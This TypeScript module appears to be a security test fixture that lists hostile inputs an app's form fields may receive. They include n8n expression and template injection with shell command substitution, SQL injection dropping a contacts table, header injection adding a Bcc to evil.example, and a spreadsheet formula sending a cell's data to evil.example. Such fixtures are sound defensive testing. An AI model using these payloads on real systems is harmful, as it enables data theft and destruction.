import { HOSTILE } from '../desk/deskWorld';

/** What strangers write where a name, a subject or a message is asked for, by what it is meant to break. */
export const ATTACKS: Readonly<Record<string, string>> = {
	markup: HOSTILE.replaceAll('\u0000', ''),
	'an expression of n8n': '={{ $env.PATH }}{{ $json.constructor.constructor("return process")().env }}',
	'an expression in the old way': '={{ $node["Settings"].json }} {{ $("Settings").first().json }}',
	'a template of ours': '{senderName|x} {companyName} {email|nobody}',
	'a template of others': '${process.env.PATH} #{7*7} <%= 7*7 %> {% raw %} %s %n `id` $(id)',
	SQL: `'); DROP TABLE contacts; -- " OR ""="`,
	'SQL that waits': "1' AND (SELECT 1 FROM pg_sleep(9)) --",
	'a line of a header': 'Hi\r\nBcc: thief@evil.example\r\nX-Injected: yes\r\n\r\n<b>second body</b>',
	'a line of a log': 'ok\nWARN autopilot_send_moved {"id":"forged"}\u001b[2J\u2028',
	'a formula of a spreadsheet': '=HYPERLINK("http://evil.example/?"&A1,"click")',
	'a prototype': '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}',
};

export const NAMED_ATTACKS = Object.entries(ATTACKS);

/** Whether some object was given a property it never had. */
export const polluted = (): boolean => 'admin' in {} || 'polluted' in {};
